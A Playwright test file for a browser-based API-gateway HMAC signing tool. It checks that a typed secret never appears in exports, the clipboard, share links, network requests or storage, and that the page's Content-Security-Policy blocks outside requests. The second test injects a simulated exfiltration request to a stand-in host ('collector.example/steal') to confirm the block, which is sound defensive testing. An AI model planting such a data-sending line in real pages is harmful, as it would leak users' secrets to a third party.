import { createHmac, randomUUID } from 'node:crypto';
import { inflateRawSync } from 'node:zlib';
import { expect, test, type Page } from '@playwright/test';
import { watchPage } from './watch-page';

const field = (page: Page, name: string) => page.getByLabel(name, { exact: true });
const valueOf = (page: Page, id: string) =>
  page.evaluate((which) => (document.getElementById(which) as HTMLTextAreaElement).value, id);

/** The forms in which a secret could leave a page: as typed, percent-encoded, in Base64. */
function secretForms(secret: string): string[] {
  return [secret, encodeURIComponent(secret), Buffer.from(secret).toString('base64')];
}

test('a secret typed into the page never leaves it', async ({ page, context, baseURL }) => {
  const secret = `sk-${randomUUID()}`;
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const watch = await watchPage(context, page);
  await page.goto('/');
  const historyAtStart = await page.evaluate(() => history.length);

  // Type the secret key by key, as a user would, and sign.
  await field(page, 'ApiAppSecret').clear();
  await field(page, 'ApiAppSecret').pressSequentially(secret);
  await page.getByRole('button', { name: 'Show secret' }).click();
  await page.getByRole('button', { name: 'Hide secret' }).click();
  await field(page, 'Content-Type').fill('application/json');
  await field(page, 'Body').fill('{"arg1":"a","arg2":"b"}');
  await page.getByRole('button', { name: 'Add signed header' }).click();
  await field(page, 'Signed header name').fill('source');
  await field(page, 'Signed header value').fill('apigw test');
  await page.getByRole('button', { name: 'Variants' }).click();
  await field(page, 'Content-MD5 encoding').selectOption('raw');
  await page.getByRole('button', { name: 'Now' }).click();

  // The page signs with the secret: its signature is node:crypto's HMAC of the string shown.
  // x-date follows the clock now, so read both at once until they belong together.
  const hmacMatches = async () => {
    const [shown, signature] = await page.evaluate(() =>
      ['signing-string-exact', 'signature'].map(
        (id) => (document.getElementById(id) as HTMLTextAreaElement).value,
      ),
    );
    return (
      createHmac('sha1', secret)
        .update(shown ?? '')
        .digest('base64') === signature
    );
  };
  await expect.poll(hmacMatches).toBe(true);

  // Exports: a curl command for every shell and code in every language, none with the secret,
  // until the user asks for it in the code.
  for (const shell of await page.locator('#curl-shell option').allTextContents()) {
    await field(page, 'Shell').selectOption({ label: shell });
    await expect(field(page, 'curl')).toHaveValue(/curl/);
    for (const form of secretForms(secret)) expect(await valueOf(page, 'curl')).not.toContain(form);
  }
  for (const language of await page.locator('#snippet-language option').allTextContents()) {
    await field(page, 'Language').selectOption({ label: language });
    await expect(field(page, 'Code')).not.toHaveValue('');
    const code = await valueOf(page, 'snippet-code');
    for (const form of secretForms(secret)) expect(code).not.toContain(form);
  }
  const embed = page.getByLabel('Embed the ApiAppSecret in the code');
  await embed.check();
  await expect(field(page, 'Code')).toHaveValue(new RegExp(secret));
  await embed.uncheck();
  await expect(field(page, 'Code')).not.toHaveValue(new RegExp(secret));

  // Compare: the page's own curl command, pasted back, is diagnosed with the form's secret.
  await field(page, 'Shell').selectOption('bash');
  await field(page, 'Failing request').fill(await valueOf(page, 'curl'));
  await field(page, 'Server response').fill(
    '{"message":"HMAC signature does not match, Server StringToSign:x-date: now#GET###/"}',
  );
  // It signed with the raw-digest variant, which the diagnosis names against the spec's rules.
  await expect(page.locator('.cause-id')).toHaveText(['md5-raw-digest']);
  await expect(field(page, 'Correct signature')).toHaveValue(/=$/);
  await page.getByRole('button', { name: 'Load into the form' }).click();
  await expect.poll(hmacMatches).toBe(true);
  const signed = await valueOf(page, 'signature');

  // A body large enough to go to the hashing worker.
  await field(page, 'Body').fill(`{"data":"${'x'.repeat(200_000)}"}`);
  await expect(field(page, 'Signature')).not.toHaveValue(signed);
  await expect.poll(hmacMatches).toBe(true);
  expect(watch.workers).toEqual([`${baseURL}/assets/${await workerFile(page)}`]);

  // Copy everything there is to copy; the clipboard never holds the secret.
  const copyButtons = page.getByRole('button', { name: /^Copy / });
  await expect(copyButtons).not.toHaveCount(0);
  for (const button of await copyButtons.all()) {
    await button.click();
    await expect(button).toHaveText('Copied');
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    for (const form of secretForms(secret)) expect(copied).not.toContain(form);
  }

  // The share link holds the request, compressed: read it apart from the page's code.
  const link = await valueOf(page, 'share-link');
  const payload = new URL(link).hash.replace(/^#share=1\./, '');
  const shared = inflateRawSync(Buffer.from(payload, 'base64url')).toString('utf8');
  expect(shared).toContain('apigw test');
  for (const form of secretForms(secret)) {
    expect(link).not.toContain(form);
    expect(shared).not.toContain(form);
  }

  // Every request went to the page's own origin, and none carried the secret.
  expect(watch.requests.length).toBeGreaterThan(0);
  expect(watch.websockets).toEqual([]);
  for (const request of watch.requests) {
    expect(new URL(request.url()).origin).toBe(new URL(baseURL ?? '').origin);
    const sent = [
      request.url(),
      JSON.stringify(await request.allHeaders()),
      request.postData() ?? '',
    ];
    for (const form of secretForms(secret)) expect(sent.join('\n')).not.toContain(form);
  }

  // Nothing was stored: no web storage, IndexedDB, cookie, cache or service worker.
  const stored = await page.evaluate(async () => ({
    local: Object.entries(localStorage),
    session: Object.entries(sessionStorage),
    indexedDb: await indexedDB.databases(),
    caches: await caches.keys(),
    serviceWorkers: (await navigator.serviceWorker.getRegistrations()).length,
  }));
  expect(stored).toEqual({ local: [], session: [], indexedDb: [], caches: [], serviceWorkers: 0 });
  expect(await context.cookies()).toEqual([]);
  expect(JSON.stringify(await context.storageState({ indexedDB: true }))).not.toContain(secret);

  // Not in the address bar or the history, not on the console.
  expect(page.url()).toBe(`${baseURL}/`);
  expect(await page.evaluate(() => history.length)).toBe(historyAtStart);
  for (const message of watch.console) expect(message).not.toContain(secret);

  // The policy is in force and the page broke none of it.
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
    'content',
    /connect-src 'none'/,
  );
  expect(await watch.violations()).toEqual([]);
  expect(watch.console.filter((message) => /Content.Security.Policy/i.test(message))).toEqual([]);

  // Forget secret clears it.
  await page.getByRole('button', { name: 'Forget secret' }).click();
  await expect(field(page, 'ApiAppSecret')).toHaveValue('');
  await expect(field(page, 'Signature')).toHaveValue(
    'Enter the ApiAppSecret to compute the signature',
  );
});

/** The worker's file name in the build, read from the page's own script. */
async function workerFile(page: Page): Promise<string> {
  const script = await page.locator('script[src]').first().getAttribute('src');
  const response = await page.request.get(script ?? '');
  return /md5-worker-[\w-]+\.js/.exec(await response.text())?.[0] ?? 'no worker in the bundle';
}

test('the policy blocks a request to another host and the page reports it', async ({
  page,
  context,
  baseURL,
}) => {
  const watch = await watchPage(context, page);
  const blocked: string[] = [];
  page.on('requestfailed', (request) =>
    blocked.push(`${request.url()} ${request.failure()?.errorText}`),
  );
  await page.goto('/');

  // What an injected script would try: send something to a host of its own, or fetch().
  await page.evaluate(() => {
    const image = document.createElement('img');
    image.src = 'https://collector.example/steal?x=1';
    document.body.append(image);
    void fetch('/anything').catch(() => undefined);
  });

  await expect
    .poll(async () => (await watch.violations()).sort())
    .toEqual([`connect-src ${baseURL}/anything`, 'img-src https://collector.example/steal?x=1']);
  await expect
    .poll(() => blocked)
    .toEqual([expect.stringMatching(/^https:\/\/collector\.example\/steal\?x=1 .*csp/i)]);
});
